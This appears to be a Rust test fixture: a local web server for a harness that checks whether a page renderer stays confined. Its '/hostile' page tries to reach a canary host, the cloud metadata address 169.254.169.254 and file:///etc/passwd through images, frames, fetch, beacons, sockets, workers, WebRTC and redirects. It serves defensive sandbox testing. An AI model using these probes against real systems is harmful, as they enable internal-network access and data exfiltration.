//! A site with pages of all kinds, the worst among them.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use tokio::net::TcpListener;
use tokio::sync::Notify;

use crate::harness::Receiver;

/// A site on this machine: it keeps which headers it was asked with, and leads to a place that may not be reached.
#[derive(Clone)]
pub(super) struct Site {
    pub(super) host: String,
    canary: String,
    pub(super) asked: Arc<Mutex<Vec<(String, HeaderMap)>>>,
    pub(super) gate: Arc<Notify>,
}

impl Site {
    pub(super) async fn new(canary: &Receiver) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let host = listener.local_addr().unwrap().to_string();
        let canary = canary.host.clone();
        let site = Self { host, canary, asked: Arc::default(), gate: Arc::default() };
        let router = Router::new().fallback(serve).with_state(site.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        site
    }

    pub(super) fn headers(&self, path: &str) -> Option<HeaderMap> {
        let asked = self.asked.lock().unwrap();
        asked.iter().find(|(asked, _)| asked == path).map(|(_, headers)| headers.clone())
    }
}

const PAGE: &str = "<!DOCTYPE html><title>Tea</title><link rel=stylesheet href=/style.css>
    <body style='margin:0'><h1>Tea and coffee</h1><p id=cookie></p><script src=/script.js></script>";

const SCRIPT: &str = "document.getElementById('cookie').append(document.cookie);
    fetch('/data').then(it => it.json()).then(it => document.body.append('answer ' + it.answer));";

async fn serve(State(site): State<Site>, uri: Uri, headers: HeaderMap) -> Response {
    site.asked.lock().unwrap().push((uri.path().to_owned(), headers));
    let of = |kind: &'static str, body: &str| {
        ([(header::CONTENT_TYPE, kind)], body.to_owned()).into_response()
    };
    match uri.path() {
        "/start" => ([(header::SET_COOKIE, "visited=yes")], Redirect::to("/page")).into_response(),
        "/page" => Html(PAGE).into_response(),
        "/style.css" => of("text/css", "body { background: #0000ff; color: #ffffff }"),
        "/script.js" => of("text/javascript", SCRIPT),
        "/data" => of("application/json", r#"{ "answer": 42 }"#),
        "/hostile" => Html(hostile(&site.canary)).into_response(),
        "/inwards" => {
            Redirect::temporary(&format!("http://{}/inwards", site.canary)).into_response()
        }
        "/metadata" => Redirect::temporary("http://169.254.169.254/latest").into_response(),
        "/tall" => Html("<div style='height:20000px'>tall</div>").into_response(),
        "/gate" => {
            site.gate.notified().await;
            Html("late").into_response()
        }
        _ => (StatusCode::NOT_FOUND, Html("<h1>Not here</h1>")).into_response(),
    }
}

/// A page that tries every way there is to what it may not reach.
pub(super) fn hostile(canary: &str) -> String {
    format!(
        "<p>the page</p><img src='http://{canary}/img'><img src='/inwards'><img src='/metadata'>
        <img src='http://169.254.169.254/latest/meta-data/'><img src='file:///etc/passwd'>
        <iframe src='http://{canary}/frame'></iframe><iframe src='file:///etc/passwd'></iframe>
        <iframe src='http://169.254.169.254/'></iframe><iframe src='/inwards'></iframe>
        <object data='file:///etc/passwd'></object><embed src='http://{canary}/embed'>
        <link rel=stylesheet href='http://{canary}/style'><link rel=preconnect href='http://{canary}'>
        <style>@import 'http://{canary}/import'; p {{ background: url('http://{canary}/url') }}</style>
        <video src='http://{canary}/video' autoplay></video>
        <script src='http://{canary}/script'></script>
        <script>
        const say = text => document.body.append(text + ' ');
        for (const url of ['http://{canary}/fetch', 'file:///etc/passwd', '/inwards', 'http://169.254.169.254/']) {{
            fetch(url).then(it => it.text()).then(say, () => {{}});
            fetch(url, {{ mode: 'no-cors', method: 'POST', body: 'a' }}).then(() => say('sent'), () => {{}});
            navigator.sendBeacon(url, 'a');
            try {{ importScripts(url) }} catch {{}}
            window.open(url);
        }}
        new WebSocket('ws://{canary}/socket').onopen = () => say('opened');
        new EventSource('http://{canary}/events').onopen = () => say('streamed');
        const code = \"fetch('http://{canary}/worker').then(() => postMessage('fetched'), () => {{}}); new WebSocket('ws://{canary}/socket')\";
        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = it => say(it.data);
        const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{canary}' }}] }});
        peer.createDataChannel('a'); peer.createOffer().then(it => peer.setLocalDescription(it));
        </script>"
    )
}
